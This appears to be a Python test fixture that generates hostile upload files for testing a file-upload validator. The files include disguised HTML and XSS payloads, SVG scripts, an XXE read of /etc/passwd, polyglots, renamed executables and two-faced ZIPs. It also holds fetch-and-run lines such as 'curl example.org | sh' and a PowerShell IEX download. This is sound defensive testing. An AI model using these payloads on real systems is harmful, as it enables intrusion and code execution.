"""500 hostile files: pages in disguise, polyglots, programs under other names, two-faced ZIPs.

Each tries to run `SCRIPT`, which asks a beacon: the browser test sees whether it ever did.
`stays_out` marks those that must be rejected. The others may be accepted, as nothing runs them.
"""

import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field

# The browser test puts a server's address here, and counts its requests.
BEACON = "http://127.0.0.1:9/ran"


@dataclass(frozen=True)
class HostileFile:
    """One file as it is sent; `stays_out` if accepting it would be a fault."""

    what: str
    name: str
    declared: str
    data: bytes = field(repr=False)
    stays_out: bool

    @property
    def id(self) -> str:
        return f"{self.what}, {self.name}, {self.declared}"


def hostile_files(beacon: str = BEACON) -> list[HostileFile]:
    """All files; their script requests the beacon."""
    script = f"globalThis.ran=1;fetch('{beacon}')"
    makers = (pages, vectors, polyglots, programs, scripts, two_faced)
    return list(itertools.chain.from_iterable(maker(script) for maker in makers))


def program(script: str, before: str = "", after: str = "") -> bytes:
    """Markup with the script in it."""
    return f"{before}<script>{script}</script>{after}".encode()


# The name and type of a file, and whether HTML in it must stay out: texts may hold markup.
CALLED = (
    ("photo.jpg", "image/jpeg", True),
    ("invoice.pdf", "application/pdf", True),
    ("movie.mp4", "video/mp4", True),
    ("table.csv", "text/csv", False),
    ("page", "application/octet-stream", False),
)
# Ways to hide a page from a search for `<html`. The last ones may not look like text.
_PLAIN = "<!doctype html><html><body>{}</body></html>"
WRAPPED = {
    "a page": _PLAIN,
    "a page in capitals": "<!DOCTYPE HTML><HTML><BODY>{}</BODY></HTML>",
    "a page after white space": "\r\n\t \f" * 200 + _PLAIN,
    "a page after 9 KB of white space": " " * 9000 + _PLAIN,
    "a page after a comment": "<!-- a note -->" + _PLAIN,
    "a page after a comment of 9 KB": f"<!--{'a' * 9000}-->" + _PLAIN,
    "a page after text": "Dear Anna,\n\nas promised:\n" + _PLAIN,
    "a page after 9 KB of text": "Dear Anna\n" * 900 + _PLAIN,
    "a page after a byte order mark": "\ufeff" + _PLAIN,
    "XHTML": '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{}</body></html>',
    "an XML page with a prefix": '<h:html xmlns:h="http://www.w3.org/1999/xhtml">{}</h:html>',
    "MHTML": "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
    "Content-Type: text/html\n\n" + _PLAIN + "\n--x--\n",
    "a page without tags of its own": "{}",
    "a page in a frame": '<iframe srcdoc="{}"></iframe>',
    "a page with PHP before": "<?php /* */ ?>" + _PLAIN,
}
HANDLED = {
    "an image's error": '<img src=x onerror="{}">',
    "a body's load": '<body onload="{}">',
    "a drawing's load": '<svg onload="{}">',
    "a toggle": '<details open ontoggle="{}">',
    "a video's error": '<video><source onerror="{}"></video>',
    "a focus": '<input autofocus onfocus="{}">',
    "an animation": '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    "a link of script": '<iframe src="javascript:{}"></iframe>',
    "an object": '<object data="data:text/html,<script>{}</script>"></object>',
    "a refresh": '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "a form": '<form action="javascript:{}"><button autofocus>a</button></form>',
    "a title's end": '<title></title><body onload="{}">',
}
ENCODED = {
    "UTF-16": "utf-16",
    "UTF-16, big-endian": "utf-16-be",
    "UTF-32": "utf-32",
    "UTF-7": "utf-7",
    "ISO-2022-JP": "iso2022_jp",
}


def pages(script: str) -> Iterator[HostileFile]:
    """HTML in 34 disguises, each under five names."""
    marked = program(script).decode()
    disguises = {what: text.format(marked).encode() for what, text in WRAPPED.items()}
    disguises |= {what: text.format(script).encode() for what, text in HANDLED.items()}
    text = _PLAIN.format(marked)
    disguises |= {f"a page in {what}": text.encode(code) for what, code in ENCODED.items()}
    disguises["a page after a null"] = b"\0" + text.encode()
    # It is not certain that these are text.
    unsure = {"a page in UTF-16, big-endian", "a page in EBCDIC", "a page after a null"}
    disguises["a page in EBCDIC"] = text.encode("cp037")
    for what, data in disguises.items():
        for name, declared, stays_out in CALLED:
            out = stays_out and what not in unsure
            yield HostileFile(what, name, declared, data, out)


def vectors(script: str) -> Iterator[HostileFile]:
    """SVG and other XML with a script, under its own type and as a bitmap."""
    svg = "http://www.w3.org/2000/svg"
    inner = {
        "a script": f"<script>{script}</script>",
        "a script of another namespace": f'<x:script xmlns:x="{svg}">{script}</x:script>',
        "a page inside": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        f"<script>{script}</script></body></foreignObject>",
        "a link": f'<a href="javascript:{script}"><text y="20">a</text></a>',
        "an animated link": f'<a><set attributeName="href" to="javascript:{script}"/></a>',
        "a picture's error": f'<image href="x" onerror="{script}"/>',
        "a use of data": '<use href="data:image/svg+xml,%3Csvg/%3E#a"/>',
        "a handler": f'<handler type="application/ecmascript">{script}</handler>',
    }
    whole = {
        f"SVG with {what}": f'<svg xmlns="{svg}" width="9" height="9">{text}</svg>'
        for what, text in inner.items()
    }
    whole["SVG that loads"] = f'<svg xmlns="{svg}" onload="{script}"/>'
    whole["SVG with an entity"] = (
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="{svg}">&a;</svg>'
    )
    whole["XML with a stylesheet"] = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x:stylesheet id="s"'
        ' version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
        f"<html><script>{script}</script></html></x:template></x:stylesheet>"
    )
    for what, text in whole.items():
        for name, declared, out in (
            ("logo.svg", "image/svg+xml", False),
            ("photo.jpg", "image/jpeg", True),
            ("invoice.pdf", "application/pdf", True),
            ("notes.txt", "text/plain", False),
        ):
            # A picture without any script is no danger under another picture's name.
            out_here = out and (what, name) != ("SVG with a use of data", "photo.jpg")
            yield HostileFile(what, name, declared, text.encode(), out_here)


def zipped(**contents: bytes) -> bytes:
    """A ZIP; two underscores in a name are a slash, one is a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in contents.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), data)
    return out.getvalue()


JAR = {"META-INF__MANIFEST_MF": b"Main-Class: A\r\n", "A_class": b"\xca\xfe\xba\xbe\0\0\0\x41"}
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


PNG = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))


def polyglots(script: str) -> Iterator[HostileFile]:
    """Files of two types: the declared one, and a page, a script or an archive."""
    page, jar = program(script, "<html>", "</html>"), zipped(**JAR)
    code = f"/*\n*/=1;{script};//".encode()
    picture = PNG + _png_chunk(b"IDAT", zlib.compress(b"\0\0")) + _png_chunk(b"IEND", b"")
    text_chunk = PNG + _png_chunk(b"tEXt", b"Comment\0" + page) + picture[len(PNG) :]
    gif = b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    movie = struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 0, b"isom")
    box = struct.pack(">I4s", len(page) + 8, b"free") + page
    wave = b"RIFF" + struct.pack("<I", 36 + len(page)) + b"WAVEfmt \x10\0\0\0\1\0\1\0"
    comment = b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page
    tag = b"ID3\3\0\0\0\0\2\0TIT2" + struct.pack(">I", len(page) + 1) + b"\0\0\0" + page
    both: list[tuple[str, bytes, str, str]] = [
        ("GIF and script", b"GIF89a" + code, "photo.gif", "image/gif"),
        ("GIF and page", gif + page, "photo.gif", "image/gif"),
        ("GIF and JAR", gif + jar, "photo.gif", "image/gif"),
        ("JPEG with a page as a comment", JPEG + comment + b"\xff\xd9", "photo.jpg", "image/jpeg"),
        ("JPEG and page", JPEG + b"\xff\xd9" + page, "photo.jpg", "image/jpeg"),
        ("JPEG and ZIP", JPEG + b"\xff\xd9" + jar, "photo.jpg", "image/jpeg"),
        ("JPEG and program", JPEG + b"\xff\xd9" + ELF, "photo.jpg", "image/jpeg"),
        ("PNG and page", picture + page, "photo.png", "image/png"),
        ("PNG with a page as a comment", text_chunk, "photo.png", "image/png"),
        ("PNG and ZIP", picture + jar, "photo.png", "image/png"),
        ("BMP and script", b"BM" + code, "photo.bmp", "image/bmp"),
        ("TIFF and page", b"II*\0\x08\0\0\0\0\0\0\0\0\0" + page, "scan.tif", "image/tiff"),
        ("WebP and page", b"RIFF\0\1\0\0WEBPVP8 " + page, "photo.webp", "image/webp"),
        ("icon and page", b"\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0" + page, "a.ico", "image/x-icon"),
        ("PSD and page", b"8BPS\0\1" + bytes(20) + page, "a.psd", "image/vnd.adobe.photoshop"),
        ("WAV and script", b"RIFF" + code.ljust(40) + b"WAVE", "song.wav", "audio/wav"),
        ("WAV and page", wave + page, "song.wav", "audio/wav"),
        ("MP3 whose title is a page", tag, "song.mp3", "audio/mpeg"),
        ("Ogg and page", b"OggS\0\2" + bytes(22) + page, "song.ogg", "audio/ogg"),
        ("FLAC and page", b"fLaC\4\0\0\x50" + page, "song.flac", "audio/flac"),
        ("MIDI and page", b"MThd\0\0\0\6\0\0\0\1\0\x60" + page, "song.mid", "audio/midi"),
        ("MP4 and page", movie + box, "movie.mp4", "video/mp4"),
        ("MP4 whose first box is a page", box, "movie.mp4", "video/mp4"),
        ("AVI and page", b"RIFF\0\1\0\0AVI " + page, "movie.avi", "video/x-msvideo"),
        ("Matroska and page", b"\x1a\x45\xdf\xa3\x93" + page, "movie.mkv", "video/matroska"),
        ("FLV and page", b"FLV\1\5\0\0\0\x09" + page, "movie.flv", "video/x-flv"),
        ("PDF and page", PDF + page, "invoice.pdf", "application/pdf"),
        ("PDF that opens a script", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S"
         b"/JavaScript/JS(app.alert(1))>>"), "invoice.pdf", "application/pdf"),
        ("PDF and ZIP", PDF + jar, "invoice.pdf", "application/pdf"),
        ("ZIP and PDF", zipped(a_txt=PDF), "archive.zip", "application/zip"),
        ("ZIP and page", zipped(a_html=page) + page, "archive.zip", "application/zip"),
        ("tar whose first name is a page", page[:100].ljust(257, b"\0") + b"ustar\00000" +
         bytes(8000), "backup.tar", "application/x-tar"),
        ("gzip with a page as its name", b"\x1f\x8b\x08\x08" + bytes(6) + page + b"\0",
         "a.gz", "application/gzip"),
        ("7z and page", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + page, "a.7z",
         "application/x-7z-compressed"),
        ("RAR and page", b"Rar!\x1a\7\1\0" + page, "a.rar", "application/vnd.rar"),
        ("font and page", b"wOFF\0\1\0\0" + bytes(36) + page, "font.woff", "font/woff"),
        ("RTF and page", b"{\\rtf1 " + page + b"}", "letter.rtf", "application/rtf"),
        ("PostScript and page", b"%!PS-Adobe-3.0\n%" + page, "a.ps", "application/postscript"),
        ("JSON and page", b'{"a": "' + page + b'"}', "data.json", "application/json"),
        ("CSV and page", b"a,b\n" + page + b",1\n", "table.csv", "text/csv"),
        ("SQLite and page", b"SQLite format 3\0" + page, "a.sqlite", "application/vnd.sqlite3"),
        ("EPUB with a script", zipped(mimetype=b"application/epub+zip", a_xhtml=page),
         "book.epub", "application/epub+zip"),
        ("style and script", b"/*<script>*/a{}\n" + page, "a.css", "text/css"),
        ("script as itself", script.encode(), "a.js", "text/javascript"),
    ]  # fmt: skip
    for what, data, name, declared in both:
        yield HostileFile(what, name, declared, data, stays_out=False)
    # A file that starts as a page cannot have another declared type.
    hidden = {"ZIP": jar, "PDF": PDF, "JPEG": JPEG, "PNG": picture, "program": ELF}
    for what, data in hidden.items():
        for name, declared, stays_out in CALLED[:3]:
            after = page + b"\n" + data
            # A PDF may start late, because readers allow that.
            out = stays_out and (what, name) != ("PDF", "invoice.pdf")
            yield HostileFile(f"page and {what}", name, declared, after, out)


ELF = b"\x7fELF\2\1\1\0" + bytes(8) + b"\2\0\x3e\0\1\0\0\0" + bytes(40)
_PE = b"MZ\x90\0" + bytes(56) + b"\x40\0\0\0PE\0\0\x64\x86\1\0" + bytes(100)
PROGRAMS = {
    "ELF": ELF,
    "ELF, 32 bits": b"\x7fELF\1\1\1\0" + bytes(8) + b"\2\0\3\0" + bytes(40),
    "ELF, big-endian": b"\x7fELF\2\2\1\0" + bytes(8) + b"\0\2\0\x15" + bytes(44),
    "PE": _PE,
    ".NET": _PE + b"\0BSJB\1\0\1\0" + bytes(40),
    "PE behind a long stub": b"MZ\x90\0"
    + bytes(56)
    + b"\0\2\0\0"
    + bytes(448)
    + b"PE\0\0"
    + bytes(99),
    "DOS": b"MZ\x40\0\2\0\0\0\x20\0\0\0\xff\xff" + bytes(18) + b"\xb4\x4c\xcd\x21" + bytes(60),
    "Mach-O": b"\xcf\xfa\xed\xfe\7\0\0\1\3\0\0\0\2\0\0\0" + bytes(60),
    "Mach-O, 32 bits": b"\xce\xfa\xed\xfe\7\0\0\0\3\0\0\0\2\0\0\0" + bytes(60),
    "Mach-O, universal": b"\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3" + bytes(60),
    "Java": b"\xca\xfe\xba\xbe\0\0\0\x41\0\x10" + bytes(60),
    "DEX": b"dex\n035\0" + bytes(100),
    "WebAssembly": b"\0asm\1\0\0\0\1\4\1\x60\0\0" + bytes(30),
    "shortcut of Windows": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60),
}
# A name, its type, and whether a program under it must stay out.
NAMES = (
    ("photo.jpg", "image/jpeg", True),
    ("invoice.pdf", "application/pdf", True),
    ("movie.mp4", "video/mp4", True),
    ("song.mp3", "audio/mpeg", True),
    ("table.csv", "text/csv", True),
    ("notes.txt", "text/plain", True),
    ("archive.zip", "application/zip", True),
    (
        "letter.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        True,
    ),
    ("photo.jpg", "", True),
    ("no extension", "image/png", True),
    ("no extension", "", False),
    ("photo\u202egpj.exe", "image/jpeg", True),
)


def programs(script: str) -> Iterator[HostileFile]:
    """Programs of every platform under a dozen names."""
    assert script
    for what, data in PROGRAMS.items():
        for name, declared, out in NAMES:
            yield HostileFile(what, name, declared, data, out)


SCRIPTS = {
    "a shell script": "#!/bin/sh\ncurl example.org | sh\n",
    "a Python script": "#!/usr/bin/env python3\nimport os\nos.system('id')\n",
    "a Perl script": "#!/usr/bin/perl\nsystem('id');\n",
    "a batch file": "@echo off\r\nstart calc.exe\r\n",
    "a PowerShell script": "IEX (New-Object Net.WebClient).DownloadString('http://example.org')\r\n",
    "a VBScript": 'CreateObject("WScript.Shell").Run "calc"\r\n',
    "an AppleScript": 'do shell script "id"\n',
    "a desktop entry": "[Desktop Entry]\nType=Application\nName=Photo\nExec=sh -c id\n",
    "an HTML application": "<hta:application/><script>new ActiveXObject('WScript.Shell')</script>",
    "an Explorer command": "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.org\\a.ico\r\n",
    "an internet shortcut": "[InternetShortcut]\r\nURL=file://example.org/a.exe\r\n",
    "a registry file": "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n",
    "a script of Windows": '<?xml version="1.0"?><job><script language="JScript">1</script></job>',
}


def scripts(script: str) -> Iterator[HostileFile]:
    """Scripts that a system runs: they stay out under types that are never text."""
    assert script
    for what, text in SCRIPTS.items():
        for name, declared, out in (
            ("photo.jpg", "image/jpeg", True),
            ("song.mp3", "audio/mpeg", True),
            ("archive.zip", "application/zip", True),
            ("notes.txt", "text/plain", False),
        ):
            yield HostileFile(what, name, declared, text.encode(), out)


def two_faced(script: str) -> Iterator[HostileFile]:
    """ZIPs that two readers read differently, and packages under another type."""
    docx = {"[Content_Types]_xml": _TYPES, "word__document_xml": b"<w/>"}
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    archive, other = zipped(good_txt=b"good"), zipped(evil_html=program(script))
    renamed = archive.replace(b"good.txt", b"evil.exe", 1)
    macros = {**docx, "word__vbaProject_bin": bytes(50)}
    android = zipped(AndroidManifest_xml=b"\3\0\x08\0", classes_dex=b"dex\n035\0")
    for what, data, name, declared in (
        ("ZIP with two ends", archive + other, "archive.zip", "application/zip"),
        ("ZIP inside a ZIP's comment", archive[:-2] + struct.pack("<H", len(other)) + other,
         "archive.zip", "application/zip"),
        ("ZIP with two names for a file", renamed, "archive.zip", "application/zip"),
        ("ZIP with a path up", zipped(**{"____/____/a": b"x"}), "archive.zip", "application/zip"),
        ("ZIP after a page", program(script) + archive, "archive.zip", "application/zip"),
        ("ZIP after a program", _PE + archive, "archive.zip", "application/zip"),
        ("DOCX that is a JAR", zipped(**docx, **JAR), "letter.docx", word),
        ("JAR that is a DOCX", zipped(**JAR, **docx), "letter.docx", word),
        ("macros in a DOCX", zipped(**macros), "letter.docx", word),
        ("APK as a ZIP", android, "archive.zip", "application/zip"),
        ("APK as a DOCX", android, "letter.docx", word),
        ("JAR as a picture", zipped(**JAR), "photo.jpg", "image/jpeg"),
        ("ZIP as a PDF", archive, "invoice.pdf", "application/pdf"),
        ("OLE as a picture", OLE, "a.png", "image/png"),
    ):  # fmt: skip
        out = what in {"ZIP after a program", "ZIP after a page", "JAR as a picture"} or (
            what in {"ZIP as a PDF", "OLE as a picture"}
        )
        yield HostileFile(what, name, declared, data, out)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
